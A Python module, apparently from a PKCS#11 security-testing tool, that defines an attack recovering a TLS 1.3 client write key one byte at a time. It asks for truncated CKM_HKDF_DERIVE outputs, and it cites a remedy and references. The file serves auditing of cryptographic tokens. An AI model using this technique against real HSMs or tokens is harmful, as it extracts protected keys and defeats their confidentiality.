"""hkdf-truncation: CKM_HKDF_DERIVE of a protected key that is a prefix of the write key, a byte longer each time."""

from collections.abc import Iterable, Sequence

from keyfence.cryptoki import Mechanism
from keyfence.cryptoki.constants import CKM
from keyfence.cryptoki.params import Hkdf

from .base import Attack, Technique
from .prefix_growth import Asked, DerivedStreamAttack
from .victim import Kind, Victim


class HkdfTruncation(Technique):
    id = "hkdf-truncation"
    title = "Prefixes of an HKDF key"
    summary = (
        "HKDF-Expand is cut by CKA_VALUE_LEN, and the HkdfLabel's own length is bytes to the module: under the write key's "
        "label a key of one byte is the write key's first. One use of it and 2^8 trials tell the byte; a key of two bytes then "
        "tells the second, and so on. No derived key needs to be readable."
    )
    section = "PKCS#11 3.2 §6.62.3 (CKM_HKDF_DERIVE: CKA_VALUE_LEN is the desired key length)"
    references = ("RFC 5869 §2.3", "RFC 8446 §7.1 and §7.3", "Tookan, CCS 2010")
    remedy = "Derive only what pInfo names: CKA_VALUE_LEN equal to the HkdfLabel's length, and the key type its label is for."
    kinds = frozenset({Kind.TLS13, Kind.SEPARATED})

    def attacks(self, victim: Victim) -> Iterable[Attack]:
        return [HkdfTruncationAttack(victim, int(CKM.HKDF_DERIVE))]


class HkdfTruncationAttack(DerivedStreamAttack):
    """Growth alone: a key that can be read is the business of readable-derive."""

    key = "client write key"
    reads = False

    @property
    def foreign(self) -> bool:
        return self.victim.kind is Kind.SEPARATED

    def asked(self) -> Sequence[Asked]:
        info, hash_number = self.target.input, int(self.target.prf_hash.ckm)
        mechanism = Mechanism(self.mechanism, Hkdf(extract=False, expand=True, prf_hash=hash_number, info=info))
        label = f'HkdfLabel({self.target.length}, "tls13 key", "")'
        return [Asked(f"C_DeriveKey({self.name}, bExpand, pInfo={label}", mechanism)]
